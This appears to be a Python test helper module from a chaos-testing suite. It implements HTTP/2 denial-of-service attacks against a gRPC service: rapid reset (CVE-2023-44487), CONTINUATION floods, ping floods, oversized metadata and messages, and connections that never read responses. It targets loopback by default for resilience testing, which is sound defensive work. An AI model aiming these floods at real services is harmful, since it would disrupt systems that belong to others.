"""Attacks over HTTP/2 on the gRPC port, by clients that break the protocol or never read.

Each asserts that it took place, and opens a new connection if the service closes one. What the
service must do meanwhile is for the caller to check.
"""

import asyncio
import contextlib
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable, Iterable, Sequence
from contextlib import asynccontextmanager

from tests.chaos.figures import CLOSED, LOOPBACK, TIMEOUT, Figures
from tests.chaos.http2 import (
    END_HEADERS,
    END_STREAM,
    Connection,
    Kind,
    frame,
    header_block,
    message,
    request_headers,
)

__all__ = [
    "continuation_flood",
    "large_messages",
    "large_metadata",
    "ping_flood",
    "rapid_reset",
    "unread_responses",
    "unread_streams",
]

CANCEL = (8).to_bytes(4, "big")  # RFC 9113 section 7
INITIAL_WINDOW_SIZE = 4  # RFC 9113 section 6.5.2
MAX_FRAME = 16384  # bytes; RFC 9113 section 4.2
_BATCH = 100  # frames, or pairs of frames, in one write
_PER_CONNECTION = 100_000

Fields = Iterable[tuple[str, str | bytes]]


async def rapid_reset(
    port: int,
    path: str,
    *,
    streams: int,
    connections: int = 1,
    payload: bytes | None = None,
    host: str = LOOPBACK,
) -> Figures:
    """Begin streams and reset each at once (CVE-2023-44487), on several connections in parallel.

    With a payload each stream is a whole call, so that its handler may begin.
    """
    block = header_block(request_headers(path))

    def begun_and_reset(number: int) -> bytes:
        stream = 2 * number + 1
        begun = (
            frame(Kind.HEADERS, block, flags=END_HEADERS, stream=stream)
            if payload is None
            else _call(stream, block, payload)
        )
        return begun + frame(Kind.RST_STREAM, CANCEL, stream=stream)

    share = streams // connections
    floods = [_flood("rapid reset", port, host, begun_and_reset, share) for _ in range(connections)]
    return _sum(await asyncio.gather(*floods))


async def continuation_flood(port: int, path: str, *, frames: int, host: str = LOOPBACK) -> Figures:
    """Send header blocks that never end (CVE-2024-27316 and others)."""
    first = frame(Kind.HEADERS, header_block(request_headers(path)), stream=1)
    other = frame(Kind.CONTINUATION, header_block([("x-filler", "a" * 1000)]), stream=1)
    return await _flood(
        "continuation flood", port, host, lambda number: other if number else first, frames
    )


async def ping_flood(port: int, *, pings: int, host: str = LOOPBACK) -> Figures:
    """Send pings, which have to be answered (RFC 9113 section 6.7)."""
    return await _flood(
        "ping flood",
        port,
        host,
        lambda number: frame(Kind.PING, number.to_bytes(8, "big")),
        pings,
    )


async def large_metadata(
    port: int, path: str, *, calls: int, size: int = 15 * 1024, host: str = LOOPBACK
) -> Figures:
    """Make calls with so many bytes of metadata."""
    block = header_block(request_headers(path, [("x-filler", "a" * size)]))
    return await _flood(
        "large metadata",
        port,
        host,
        lambda number: _call(2 * number + 1, block, b""),
        calls,
        batch=10,
    )


async def large_messages(
    port: int, path: str, *, calls: int, size: int = 4 * 1024 * 1024 - 64, host: str = LOOPBACK
) -> Figures:
    """Make calls with messages of so many bytes, one after another."""
    block = header_block(request_headers(path))
    answers: Counter[str] = Counter()
    started = time.monotonic()
    connection = await Connection.open(port, host=host)
    for number in range(calls):
        stream = 2 * number + 1
        reading = asyncio.create_task(_end_of(connection, stream))
        window = asyncio.create_task(connection.send(_call(stream, block, b"\xff" * size)))
        async with asyncio.timeout(TIMEOUT):
            answers[await reading] += 1
        await window
    await connection.close()
    assert answers.total() == calls
    return Figures("large messages", calls, time.monotonic() - started, 1, answers)


async def unread_responses(
    port: int, path: str, payload: bytes, *, calls: int, host: str = LOOPBACK
) -> Figures:
    """Make unary calls, and never open the window in which the responses could be sent."""
    block = header_block(request_headers(path))
    return await _flood(
        "unread responses",
        port,
        host,
        lambda number: _call(2 * number + 1, block, payload),
        calls,
        settings={INITIAL_WINDOW_SIZE: 0},
        refused=Kind.DATA,
    )


@asynccontextmanager
async def unread_streams(
    port: int, path: str, *, streams: int, metadata: Fields = (), host: str = LOOPBACK
) -> AsyncIterator[Figures]:
    """Hold response streams open, each on a connection of its own that is never read."""
    block = header_block(request_headers(path, metadata))
    started = time.monotonic()
    connections = [
        await Connection.open(port, host=host, settings={INITIAL_WINDOW_SIZE: 0}, read_limit=1)
        for _ in range(streams)
    ]
    try:
        for connection in connections:
            await connection.send(_call(1, block, b""))
        for connection in connections:  # each has begun: its headers came
            async with asyncio.timeout(TIMEOUT):
                await connection.receive_until(Kind.HEADERS, 1)
        yield Figures("unread streams", streams, time.monotonic() - started, streams)
    finally:
        for connection in connections:
            await connection.close()


async def _flood(
    attack: str,
    port: int,
    host: str,
    make: Callable[[int], bytes],
    count: int,
    *,
    batch: int = _BATCH,
    settings: dict[int, int] | None = None,
    refused: Kind | None = None,
) -> Figures:
    """Send what `make` gives for 0, 1, … on each connection, until so many are sent in all."""
    answers: Counter[str] = Counter()
    sent = connections = 0
    started = time.monotonic()
    async with asyncio.timeout(TIMEOUT):
        while sent < count:
            connection = await Connection.open(port, host=host, settings=settings)
            connections += 1
            reading = asyncio.create_task(_count_frames(connection, answers))
            number = 0
            with contextlib.suppress(ConnectionError):
                while sent < count and number < _PER_CONNECTION and not reading.done():
                    size = min(batch, count - sent)
                    await connection.send(b"".join(map(make, range(number, number + size))))
                    sent, number = sent + size, number + size
                    await asyncio.sleep(0)
                await connection.send(frame(Kind.PING, b"the last"))
            # The service has read everything once it answers the ping, or closes.
            await asyncio.wait([reading], timeout=None if reading.done() else 5)
            await connection.close()
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)
    assert sent >= count
    assert answers["PING"] or answers[CLOSED], "nothing tells that the service read any of it"
    if refused is not None:
        assert not answers[refused.name], f"{refused.name} came all the same"
    return Figures(attack, sent, time.monotonic() - started, connections, answers)


def _sum(parts: Sequence[Figures]) -> Figures:
    """Return the figures of floods that ran in parallel."""
    return Figures(
        parts[0].attack,
        sum(part.sent for part in parts),
        max(part.seconds for part in parts),
        sum(part.connections for part in parts),
        sum((part.answers for part in parts), Counter()),
    )


async def _count_frames(connection: Connection, answers: Counter[str]) -> None:
    """Count what comes, until the last ping is answered or the connection is closed."""
    while (found := await connection.receive()) is not None:
        known = found.kind in {int(kind) for kind in Kind}
        answers[Kind(found.kind).name if known else "other"] += 1
        if found.kind == Kind.PING and found.payload == b"the last":
            return
    answers[CLOSED] += 1


async def _end_of(connection: Connection, stream: int) -> str:
    """Return how a stream ends: by trailers, a reset, or the end of the connection."""
    while (found := await connection.receive()) is not None:
        if found.stream == stream and (
            found.kind == Kind.RST_STREAM
            or (found.flags & END_STREAM and found.kind == Kind.HEADERS)
        ):
            return Kind(found.kind).name
    return CLOSED


def _call(stream: int, block: bytes, payload: bytes) -> bytes:
    """Return the frames of a call with one message."""
    data = message(payload)
    parts = [data[start : start + MAX_FRAME] for start in range(0, len(data), MAX_FRAME)]
    frames = [
        frame(Kind.DATA, part, flags=END_STREAM if part is parts[-1] else 0, stream=stream)
        for part in parts
    ]
    return frame(Kind.HEADERS, block, flags=END_HEADERS, stream=stream) + b"".join(frames)
